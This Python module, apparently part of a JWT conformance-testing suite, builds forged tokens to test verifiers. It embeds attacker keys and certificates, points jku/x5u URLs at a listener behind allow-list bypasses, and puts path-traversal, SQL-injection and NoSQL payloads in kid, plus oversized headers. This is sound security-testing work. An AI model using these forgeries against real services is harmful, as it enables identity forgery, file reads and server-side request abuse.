"""Headers that bring their own key, choose one by a path or a query, or are no headers at all.

Sources: ASVS 5.0 9.1.3, RFC 8725 sections 3.10 and 3.11, CVE-2018-0114, CWE-22, CWE-89, CWE-918.
"""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Iterator
from urllib.parse import quote, urlsplit

from conformance.attacks import attacker, jwt
from conformance.attacks.jwt import JsonText
from conformance.attacks.material import Forgery, Material

KID_FILES = (
    ("kid climbs to /dev/null", "../../../../../../../../dev/null", b""),
    ("kid is /dev/null", "/dev/null", b""),
    ("kid climbs to a file of 2", "../../../../../../../../proc/sys/kernel/randomize_va_space", b"2\n"),
    ("kid with NUL climbs to /dev/null", "../../../../../../../../dev/null\u0000.pem", b""),
)
"""Label, ``kid`` and what the file holds: the secret, if the look-up opens files (CWE-22)."""

KID_QUERIES = (
    ("kid selects a secret", "x' UNION SELECT 'pickproof'-- "),
    ("kid selects a secret, no comment", "x' UNION SELECT 'pickproof"),
    ("kid selects a secret, double quotes", 'x" UNION SELECT "pickproof"-- '),
)
"""Label and ``kid`` that makes a careless query answer ``pickproof`` (CWE-89)."""

KID_NAMES = (
    ("kid names the prototype", "__proto__", b"[object Object]"),
    ("kid names a constructor", "constructor", b"function Object() { [native code] }"),
)
"""Label, ``kid`` that every object of JavaScript has, and what it is as text: the secret (CWE-1321)."""

KID_SHAPES = (
    ("kid number", "1"),
    ("kid null", "null"),
    ("kid list", '["a"]'),
    ("kid object", '{"$ne":null}'),
    ("kid of control characters", '"\\u0000\\u001b\\r\\n"'),
    ("kid lone surrogate", '"\\ud800"'),
    ("kid of 4096 characters", f'"{"k" * 4096}"'),
)
"""Label and JSON text of a ``kid`` that a look-up may trip over."""

OVERSIZED = (
    ("member of 3000 characters", f'"{"x" * 3000}"'),
    ("member of 40000 characters", f'"{"x" * 40000}"'),
    ("2500 nested lists", "[" * 2500 + "]" * 2500),
    ("number of 5000 digits", "9" * 5000),
    ("500 members", "{" + ",".join(f'"{number}":1' for number in range(500)) + "}"),
)
"""Label and JSON text of a header member that costs a careless parser much (CWE-400, CWE-674)."""

NOT_OBJECTS = (
    ("header is a list", b'[{"alg":"none"}]'),
    ("header is a string", b'"none"'),
    ("header is no JSON", b"{alg:none}"),
    ("header is empty", b""),
)
"""Label and header bytes that are no JSON object (RFC 7519 section 7.2)."""


def asymmetric_alg(m: Material) -> str:
    """The algorithm that the attacker's own key signs with: the genuine one where it is asymmetric."""
    known = ("RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512", "ES256K", "EdDSA")
    return m.genuine.alg if m.genuine.alg in known else "RS256"


def _own(m: Material, alg: str, changes: dict[str, object], drop: tuple[str, ...] = ()) -> str:
    """The changed identity, signed with the attacker's own key."""
    return jwt.signed(m.header({"alg": alg, **changes}, drop), m.payload, alg, attacker.private_key(alg))


def embedded_key(m: Material) -> Iterator[Forgery]:
    """``jwk`` holds the attacker's key (CVE-2018-0114)."""
    for alg in dict.fromkeys((asymmetric_alg(m), "RS256", "ES256")):
        raw = _own(m, alg, {"jwk": attacker.public_jwk(alg, attacker.KID), "kid": attacker.KID})
        yield Forgery(f"own {alg} key in jwk", raw, f"identity changed, {alg} with the embedded key")


def embedded_under_known_kid(m: Material) -> Iterator[Forgery]:
    """``jwk`` holds the attacker's key under the name of the genuine one."""
    kid = m.genuine.header.get("kid")
    if isinstance(kid, str):
        alg = asymmetric_alg(m)
        raw = _own(m, alg, {"jwk": attacker.public_jwk(alg, kid)})
        yield Forgery(f"own {alg} key in jwk under the published kid", raw, "kid of the header and of jwk is genuine")


def embedded_secret(m: Material) -> Iterator[Forgery]:
    """``jwk`` holds a shared secret of the attacker: the algorithm is symmetric, whatever the genuine one is."""
    kids = dict.fromkeys((attacker.KID, m.genuine.header.get("kid"))) if _text_kid(m) else (attacker.KID,)
    for kid in kids:
        secret = {"kty": "oct", "k": jwt.b64_encode(attacker.SECRET), "kid": kid}
        header = m.header({"alg": m.hmac_alg, "jwk": secret, "kid": kid})
        name = "own secret in jwk" if kid == attacker.KID else "own secret in jwk under the published kid"
        raw = jwt.signed(header, m.payload, m.hmac_alg, attacker.SECRET)
        yield Forgery(name, raw, f"identity changed, {m.hmac_alg} with the embedded secret")


def _text_kid(m: Material) -> bool:
    return isinstance(m.genuine.header.get("kid"), str)


def key_url(m: Material) -> Iterator[Forgery]:
    """``jku`` names the listener, where the key of the signature lies."""
    if m.listener is not None:
        own = _own(m, asymmetric_alg(m), {"jku": _key_set(m.listener), "kid": attacker.KID})
        yield Forgery("jku at the listener", own, "identity changed, key set and kid of the attacker")


def key_url_called(m: Material) -> Iterator[Forgery]:
    """The same under the genuine signature: a fetch is a finding, even when the token is refused (CWE-918)."""
    if m.listener is None:
        return
    for name, more in (("kid kept", {}), ("kid unknown", {"kid": attacker.KID})):
        header = m.header({"jku": _key_set(m.listener), **more})
        raw = jwt.compact(header, m.payload, m.genuine.signature)
        yield Forgery(f"jku at the listener, {name}", raw, "identity changed, genuine signature kept")


def key_url_disguised(m: Material) -> Iterator[Forgery]:
    """``jku`` names the listener in a form that a careless list of allowed, or of forbidden, places lets pass."""
    trusted = _trusted_place(m)
    if m.listener is None or trusted is None:
        return
    scheme, _, rest = _key_set(m.listener).partition("://")
    disguises = {
        "name and password": f"{scheme}://{urlsplit(trusted).netloc}@{rest}",
        "fragment": f"{scheme}://{rest}#{trusted}",
        "number for an address": f"{scheme}://{rest.replace('127.0.0.1', '2130706433')}",
    }
    for name, url in disguises.items():
        own = _own(m, asymmetric_alg(m), {"jku": url, "kid": attacker.KID})
        yield Forgery(f"jku at the listener behind a {name}", own, "identity changed, key set and kid of the attacker")


def key_in_url(m: Material) -> Iterator[Forgery]:
    """``jku`` is a ``data:`` URL that holds the key set itself: libraries that fetch any URL read it."""
    alg = asymmetric_alg(m)
    text = jwt.dumps({"keys": [{**attacker.public_jwk(alg, attacker.KID), "alg": alg, "use": "sig"}]})
    own = _own(m, alg, {"jku": "data:application/json," + quote(text), "kid": attacker.KID})
    yield Forgery("jku of data", own, "identity changed, key set of the attacker in the address")


def _key_set(listener: str) -> str:
    return listener.rstrip("/") + attacker.JWKS_PATH


def _trusted_place(m: Material) -> str | None:
    """An address that the verifier may hold for its own: of the genuine key set, else the issuer."""
    found = (m.genuine.header.get("jku"), m.genuine.claims.get("iss"))
    return next((place for place in found if isinstance(place, str) and urlsplit(place).netloc), None)


def certificate_url(m: Material) -> Iterator[Forgery]:
    """``x5u`` names the listener."""
    if m.listener is None:
        return
    alg, url = asymmetric_alg(m), m.listener.rstrip("/") + attacker.CERTIFICATE_PATH
    own = _own(m, alg, {"x5u": url, "kid": attacker.KID})
    yield Forgery("x5u at the listener", own, "identity changed, certificate and kid of the attacker")
    kept = _own(m, alg, {"x5u": url})
    yield Forgery("x5u at the listener, kid kept", kept, "identity changed, certificate of the attacker")


def embedded_certificate(m: Material) -> Iterator[Forgery]:
    """``x5c`` holds a self-signed certificate of the attacker (CWE-295)."""
    alg = asymmetric_alg(m)
    der = attacker.certificate_der(alg)
    chain = [base64.b64encode(der).decode()]
    thumbprint = jwt.b64_encode(hashlib.sha256(der).digest())
    yield Forgery("own certificate in x5c", _own(m, alg, {"x5c": chain}), "identity changed, self-signed certificate")
    raw = _own(m, alg, {"x5c": chain, "x5t#S256": thumbprint}, drop=("kid",))
    yield Forgery("own certificate in x5c with thumbprint", raw, "the same with x5t#S256 and without kid")


def kid_files(m: Material) -> Iterator[Forgery]:
    """``kid`` names a file whose content is known."""
    for name, kid, content in KID_FILES:
        header = m.header({"alg": m.hmac_alg, "kid": kid})
        raw = jwt.signed(header, m.payload, m.hmac_alg, content)
        yield Forgery(name, raw, f"identity changed, {m.hmac_alg} keyed with the content {content!r}")


def kid_queries(m: Material) -> Iterator[Forgery]:
    """``kid`` carries a query that answers with a known secret."""
    for name, kid in KID_QUERIES:
        header = m.header({"alg": m.hmac_alg, "kid": kid})
        raw = jwt.signed(header, m.payload, m.hmac_alg, b"pickproof")
        yield Forgery(name, raw, f"identity changed, {m.hmac_alg} keyed with pickproof")


def kid_names(m: Material) -> Iterator[Forgery]:
    """``kid`` is a name that the table of keys has by nature."""
    for name, kid, secret in KID_NAMES:
        header = m.header({"alg": m.hmac_alg, "kid": kid})
        raw = jwt.signed(header, m.payload, m.hmac_alg, secret)
        yield Forgery(name, raw, f"identity changed, {m.hmac_alg} keyed with {secret!r}")


def kid_shapes(m: Material) -> Iterator[Forgery]:
    """``kid`` of another type or size, identity changed under the old signature."""
    yield from _header_texts(m, "kid", KID_SHAPES)


def oversized(m: Material) -> Iterator[Forgery]:
    """Headers that are costly to parse."""
    yield from _header_texts(m, "pickproof", OVERSIZED)


def not_object(m: Material) -> Iterator[Forgery]:
    """Headers that are no JSON object."""
    for name, header in NOT_OBJECTS:
        raw = jwt.compact(header, m.payload, m.genuine.signature)
        yield Forgery(name, raw, "identity changed, genuine signature kept")


def _header_texts(m: Material, member: str, texts: tuple[tuple[str, str], ...]) -> Iterator[Forgery]:
    for name, text in texts:
        header = m.header({member: JsonText(text)})
        raw = jwt.compact(header, m.payload, m.genuine.signature)
        yield Forgery(name, raw, "identity changed, genuine signature kept")


FAMILIES = {
    "token.key.jwk": embedded_key,
    "token.key.jwk-oct": embedded_secret,
    "token.key.jwk-samekid": embedded_under_known_kid,
    "token.key.jku": key_url,
    "token.key.jku-callback": key_url_called,
    "token.key.jku-bypass": key_url_disguised,
    "token.key.file-scheme": key_in_url,
    "token.key.x5u": certificate_url,
    "token.key.x5c": embedded_certificate,
    "token.kid.traversal": kid_files,
    "token.kid.sqli": kid_queries,
    "token.kid.ldap-nosql": kid_names,
    "token.kid.types": kid_shapes,
    "token.header.oversize": oversized,
    "token.header.not-object": not_object,
}
